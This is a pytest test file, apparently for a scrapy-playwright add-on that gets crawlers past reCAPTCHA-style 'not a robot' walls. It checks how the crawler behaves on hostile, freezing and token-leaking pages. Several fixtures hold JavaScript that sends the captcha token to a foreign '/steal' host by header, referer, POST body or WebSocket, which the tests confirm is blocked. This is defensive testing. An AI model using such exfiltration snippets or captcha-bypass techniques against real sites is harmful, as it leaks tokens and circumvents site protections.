"""What a browser presses, calls and sends at a wall: the widget's own button, once, or nothing, counted at the site.

Each page is asked for in one crawl, at a site of its own: a browser takes longer to start than to show a page.
"""

import asyncio

import pytest
from aiohttp import web
from scrapy_playwright.page import PageMethod

from tests.browser.crawling import BrowserSpider, Case, CasesSpider, names
from tests.browser.live_pages import FREEZE, comes
from tests.browser.test_odd_pages import ACCEPTED, CALLBACK, ELSEWHERE, FIELD, GOOGLE, PAGE, SEND, WIDGET, at, clear
from tests.helpers import sites
from tests.helpers.nightly import nightly

SAYS = "<title>Access denied</title><h1>Confirm that you are not a robot to see this page</h1>"
LOG_OUT = "<header><form method=post action=/deed><button>Log out</button></form></header>"
SHOW = "send(token).then(() => location.reload())"
BY_DAY = {
    *("a callback that sends in a header", "a callback that sends after 1 s beside its form"),
    *("a newsletter with the same key and address", "a button outside of its form"),
    "no callback, and buttons of others",
    "a callback that never returns",
    *("without promises, in a form", "with other methods of forms, in a form", "that removes its widget, outside"),
    "a header",
}
"""The cases of each rule that stand for its others, which are nightly."""


def wall(body, callback="", *, head="", answer=None):
    """Return what makes a site whose wall has ``body``, and opens for any request to /verify that holds a token.

    :param callback: what the function ``passed(token)`` does.
    :param answer: answers other requests, if it returns something.
    """

    async def respond(request, form):
        given = None if answer is None else answer(request, form)
        if given is not None:
            return await given if asyncio.iscoroutine(given) else given
        if request.path == "/never":
            await asyncio.Event().wait()
        if request.path == "/verify":
            is_token = form.get(FIELD) or request.headers.get("X-Token") or request.query_string
            return clear(sites.redirect("/page/1", 303)) if is_token else sites.page("no", 400)
        if request.path in DEEDS:
            return sites.page(f"done: {request.path}")
        if sites.cleared(request):
            return sites.page(PAGE)
        script = f"<script>{SEND} function passed(token) {{ {callback} }}</script>"
        return sites.page(f"{head}{SAYS}{body}{script}{GOOGLE}", 403)

    return at(respond, ELSEWHERE)


DEEDS = ("/deed", "/ad", "/opaque", "/steal", "/favicon.ico")


def counted(case, path, method=None):
    """Return how often a path was asked for at a site."""
    return [
        (asked, target)
        for asked, target, *_ in case.site.requests
        if target.partition("?")[0] == path and method in (None, asked)
    ]


# What is pressed

WORDLESS = "<button id=wordless></button><script>wordless.onclick = () => fetch('/deed')</script>"
OUTSIDE = f"{LOG_OUT}<main>{CALLBACK}{WORDLESS}</main>"
OPENING = {
    "a callback that sends after 1.5 s": wall(OUTSIDE, f"setTimeout(() => {SHOW}, 1500)"),
    "a callback that sends in a header": wall(
        OUTSIDE, "fetch('/verify', {headers: {'X-Token': token}}).then(() => location.reload())"
    ),
    "a callback that sends encoded": wall(OUTSIDE, "fetch('/verify?' + btoa(token)).then(() => location.reload())"),
    "a callback that sends after 1 s beside its form": wall(
        f"<form method=post action=/deed>{CALLBACK}<button>Continue</button></form>", f"setTimeout(() => {SHOW}, 1000)"
    ),
    "a callback that sends encoded beside its form": wall(
        f"<form method=post action=/deed>{CALLBACK}<button>Continue</button></form>",
        "fetch('/verify?' + btoa(token)).then(() => setTimeout(() => location.reload(), 4000))",
    ),
    "a newsletter with the same key and address": wall(
        f"<header><form method=post><input type=hidden name=news value=1>{WIDGET}<button>Subscribe</button></form>"
        f"</header><form method=post>{WIDGET}<button>Continue</button></form>",
        answer=lambda request, form: (
            sites.page("Thank you for subscribing")
            if form.get("news")
            else clear(sites.redirect("/page/1", 303))
            if form
            else None
        ),
    ),
    "a button with an address of its own": wall(
        f"<header><form method=post action=/deed>{WIDGET}<button>Subscribe</button></form></header>"
        f"<form method=post action=/deed>{WIDGET}<button formaction=/verify>Continue</button></form>"
    ),
    "a button outside of its form": wall(
        f"<form method=post action=/deed>{WIDGET}<button>Subscribe</button></form>"
        f"<form id=check method=post action=/verify>{WIDGET}</form><button form=check name=go value=1>Continue</button>"
    ),
    "a window that it opens before it sends": wall(CALLBACK, f"window.open('/ad'); setTimeout(() => {SHOW}, 300)"),
}
OPENED = {name: Case(make=make, nightly=name not in BY_DAY) for name, make in OPENING.items()}

NOTHING_TO_SEND = {
    "no callback, and buttons of others": wall(f"{LOG_OUT}<main>{WIDGET}{WORDLESS}</main>"),
    "a callback that does nothing": wall(OUTSIDE, "window.idle = token"),
    "a callback that throws": wall(OUTSIDE, "throw new Error('no')"),
    "a form that the page forbids": wall(
        f"<form method=post action=/verify>{WIDGET}<button>Continue</button></form>",
        head="<meta http-equiv=Content-Security-Policy content=\"form-action 'none'\">",
    ),
    "an encoded token that opens nothing": wall(OUTSIDE, "fetch('/opaque?' + btoa(token))"),
}
NOT_SEEN = {name: Case(make=make, nightly=name not in BY_DAY) for name, make in NOTHING_TO_SEND.items()}
FREEZING = {
    "a callback that never returns": wall(OUTSIDE, FREEZE),
    "a callback that never returns in a form": wall(
        f"<form method=post action=/deed>{CALLBACK}<button>Continue</button></form>", "while (true);"
    ),
}
FROZEN = {name: Case(make=make, nightly=name not in BY_DAY) for name, make in FREEZING.items()}

BAD = {
    "without promises": "window.Promise = undefined",
    "with promises that never end": "window.Promise = class { then() { return this; } }",
    "without fetch": "window.fetch = undefined",
    "with a grecaptcha of its own": "window.grecaptcha = Object.freeze({})",
    "with other methods of forms": "for (const name of ['submit', 'requestSubmit', 'elements'])"
    " Object.defineProperty(HTMLFormElement.prototype, name, {value: () => fetch('/deed')})",
    "that removes its widget": "setInterval(() => document.querySelector('.g-recaptcha').remove(), 10)",
    "that empties itself": "addEventListener('load', () => setTimeout(() => document.documentElement.remove(), 200))",
    "that freezes its objects": "[Object, Element, HTMLTextAreaElement].map((each) => Object.freeze(each.prototype))",
    # The first time, scrapy-playwright would wait for it without end, with or without the add-on.
    "that freezes": "localStorage.loads = 1 + (localStorage.loads | 0);"
    f" if (localStorage.loads == 2) setTimeout(() => {{ {FREEZE}; }}, 400)",
}
HOSTILE = {
    f"{name}, {where}": Case(
        make=wall(f"{LOG_OUT}{body}", "send(token)", head=f"<script>{script}</script>"),
        nightly=f"{name}, {where}" not in BY_DAY,
    )
    for name, script in BAD.items()
    for where, body in {"outside": CALLBACK, "in a form": f"<form method=post action=/opaque>{CALLBACK}</form>"}.items()
}

# Where the token goes


def elsewhere(script):
    """Return a site whose callback sends something to another one; ``there`` is its address."""
    return wall(f"{LOG_OUT}{CALLBACK}", f"const there = `//{ELSEWHERE}:${{location.port}}/steal`; {script}")


def repeated(request, form):
    """Answer a form by having its body sent to another site, which welcomes it."""
    if request.path == "/verify":
        return sites.redirect(f"http://{ELSEWHERE}:{request.url.port}/steal", 307)
    if request.path == "/steal":
        return sites.page("Welcome to another site")
    return None


async def socket(request, form):
    connected = web.WebSocketResponse()
    await connected.prepare(request)
    async for _ in connected:
        pass
    return connected


ELSEWHERE_BOUND = {
    "a header": elsewhere("fetch(there, {headers: {'X-Token': token}})"),
    "a referer": elsewhere(
        "history.replaceState({}, '', '?t=' + token); fetch(there, {mode: 'no-cors', referrerPolicy: 'unsafe-url'})"
    ),
    "a body": elsewhere("fetch(there, {method: 'POST', mode: 'no-cors', body: token})"),
}
STOPPED = {name: Case(make=make, nightly=name not in BY_DAY) for name, make in ELSEWHERE_BOUND.items()}
REPEATED = Case(
    make=wall(f"<form method=post action=/verify>{WIDGET}<button>Continue</button></form>", answer=repeated)
)
SOCKET = Case(
    make=wall(
        f"{LOG_OUT}{CALLBACK}",
        f"const it = new WebSocket(`ws://{ELSEWHERE}:${{location.port}}/socket`); it.onopen = () => it.send(token)",
        answer=lambda request, form: socket(request, form) if request.path == "/socket" else None,
    ),
    nightly=True,
)

# What the spider does in its page

FORM = f"<form method=post action=/verify>{WIDGET}<button>Continue</button></form>"


def shop(*, behind=None, front=True):
    """Return a shop whose page has a button Add, which sends a form, and a link; ``behind(request)`` answers both."""

    def answer(request, form):
        if request.path == "/verify" and form.get(FIELD):
            target = form.get("next") or "/page/1"
            cleared = sites.redirect(target, 303)
            cleared.set_cookie("through" if form.get("next") else "clearance", "yes", path="/")
            return cleared
        if front and not sites.cleared(request):
            return sites.page(f"{SAYS}{FORM}{GOOGLE}", 403)
        if request.path in ("/add", "/more") and request.cookies.get("through") != "yes" and behind is not None:
            return behind(request)
        if request.path == "/add":
            return sites.redirect("/cart", 303)
        if request.path == "/page/1":
            return sites.page(
                f"{PAGE}<form method=post action=/add><button id=add>Add</button></form>"
                "<a id=more href=/more onclick=\"navigator.sendBeacon('/clicked')\">More</a>"
            )
        return sites.page(f"<title>{request.path}</title><p class=cart>One lamp</p>")

    return at(answer)


def gate(request):
    """Show a wall at the address that was asked for, which leads there."""
    form = FORM.replace("<button", f"<input type=hidden name=next value={request.path}><button")
    return sites.page(f"{SAYS}{form}{GOOGLE}", 403)


def clicks(selector):
    return [PageMethod("click", selector), PageMethod("wait_for_selector", ".cart", timeout=2000)]


async def click_and_fail(page):
    await page.click("#add")
    await page.wait_for_selector(".cart")
    raise LookupError("of the spider")


def methods(*given):
    return {"playwright_page_methods": list(given), "dont_retry": True}


ADDS = Case(make=shop(), meta=methods(*clicks("#add")))
FAILS = Case(make=shop(), meta=methods(PageMethod(click_and_fail)))
WALL_BEHIND_LINK = Case(make=shop(front=False, behind=gate), meta=methods(*clicks("#more")))
WALLS_ON_BOTH_SIDES = Case(make=shop(behind=gate), meta=methods(*clicks("#more")))
WALL_BEHIND_POST = Case(make=shop(front=False, behind=gate), meta=methods(*clicks("#add")))

CASES = [
    *HOSTILE.values(),
    *FROZEN.values(),
    *NOT_SEEN.values(),
    *OPENED.values(),
    *STOPPED.values(),
    *(REPEATED, SOCKET, ADDS, FAILS, WALL_BEHIND_LINK, WALLS_ON_BOTH_SIDES, WALL_BEHIND_POST),
]


@pytest.fixture(scope="session")
def crawled(together):
    """Ask for the page of each case."""
    return together(CasesSpider, CASES, page_fails=True, CONCURRENT_REQUESTS=20)


@pytest.mark.parametrize("name", names(OPENED))
def test_a_wall_opens_by_what_is_its_own_and_nothing_else_is_sent(crawled, name):
    case = OPENED[name]
    assert [page.css(".item::text").get() for page in case.pages] == ["Lamp"]
    assert (case.bought, counted(case, "/deed")) == (1, [])
    # Whatever is sent is sent once, and is no newsletter.
    sent = [form for _, path, form, _ in case.site.requests if path.startswith("/verify") or form]
    assert len(sent) == 1
    assert "news" not in sent[0]


@pytest.mark.parametrize("name", names(NOT_SEEN))
def test_a_page_that_sends_nothing_costs_one_job_and_says_so(crawled, name):
    case = NOT_SEEN[name]
    assert (case.pages, case.reasons, case.bought, case.jobs) == ([], ["browser"], 1, [("unknown", "not_seen")])
    assert counted(case, "/deed") == []


@pytest.mark.parametrize("name", names(FROZEN))
def test_a_page_that_does_not_answer_any_more_is_closed_and_costs_one_job(crawled, name):
    case = FROZEN[name]
    assert (case.pages, case.reasons, case.bought, case.jobs) == ([], ["broke"], 1, [("unknown", "broke")])
    assert counted(case, "/deed") == []


@pytest.mark.parametrize("name", names(HOSTILE))
def test_a_hostile_page_costs_one_job_at_most_and_does_nothing_else(crawled, name):
    case = HOSTILE[name]
    assert len(case.pages) + len(case.failures) == 1
    assert case.bought <= 1
    assert [path for _, path, *_ in case.site.requests if path.startswith("/deed")] == []
    assert len(counted(case, "/verify")) <= 1


@pytest.mark.parametrize("name", names(STOPPED))
def test_no_request_takes_a_token_to_another_site_in_whatever_part(crawled, name):
    case = STOPPED[name]
    assert (case.reasons, case.bought) == (["foreign_form"], 1)
    assert not [path for _, path, *_ in case.site.requests if path.startswith(("/steal", "/deed"))]


@pytest.mark.parametrize(
    ("case", "reason", "known"),
    [
        pytest.param(REPEATED, "foreign_form", "foreign_form", id="307"),
        nightly(SOCKET, "browser", "not_seen", id="socket"),
    ],
)
def test_what_comes_of_a_token_that_could_not_be_kept_from_another_site_is_not_the_page(crawled, case, reason, known):
    assert (case.pages, case.reasons, case.bought, case.jobs) == ([], [reason], 1, [("unknown", known)])


def test_page_methods_run_once_in_the_page_that_a_token_has_brought(crawled):
    assert len(counted(ADDS, "/add", "POST")) == 1
    assert [page.css(".cart::text").get() for page in ADDS.pages] == ["One lamp"]
    assert (ADDS.bought, ADDS.jobs) == (1, ACCEPTED)


def test_an_error_of_a_page_method_behind_a_wall_is_that_of_the_spider(crawled):
    assert len(counted(FAILS, "/add", "POST")) == 1
    assert [str(error) for error in FAILS.failures] == ["of the spider"]
    assert (FAILS.bought, FAILS.jobs) == (1, ACCEPTED)


@pytest.mark.parametrize("case", [WALL_BEHIND_LINK, WALL_BEHIND_POST])
def test_a_wall_behind_a_click_passes_on_since_nothing_is_clicked_twice(crawled, case):
    assert [(page.status, page.flags[-1]) for page in case.pages] == [(200, "omocaptcha:behind_methods")]
    assert (case.failures, case.bought) == ([], 0)
    assert len(counted(case, "/clicked")) + len(counted(case, "/add", "POST")) == 1


def test_a_wall_behind_a_click_behind_a_wall_ends_the_request(crawled):
    case = WALLS_ON_BOTH_SIDES
    assert (case.pages, case.reasons, case.bought, case.jobs) == ([], ["behind_methods"], 1, ACCEPTED)
    assert len(counted(case, "/clicked")) == 1


class ClosesWhileFrozen(BrowserSpider):
    """Ends its crawl a second after a page has been seen to freeze."""

    def requests(self):
        self.ending = asyncio.ensure_future(self.end())
        yield from super().requests()

    async def end(self):
        await comes(lambda: any(path == "/ad" for _, path, *_ in self.site.requests))
        await asyncio.sleep(1)
        await self.crawler.engine.close_spider_async(reason="test")


def test_a_crawl_that_closes_does_not_wait_for_a_page_that_does_not_answer(browse, service):
    freezing = f"navigator.sendBeacon('/ad'); setTimeout(() => {{ {FREEZE}; }}, 150)"
    with wall(OUTSIDE, freezing)(service, ("127.0.0.9",)) as site:
        crawled = browse(ClosesWhileFrozen, urls=[f"{site.origin}/page/1"], site=site)
    assert (crawled.stats["finish_reason"], crawled.failures, len(service.jobs)) == ("test", [], 1)
    # Long before the page itself would have been given up.
    assert crawled.stats["elapsed_time_seconds"] < 10
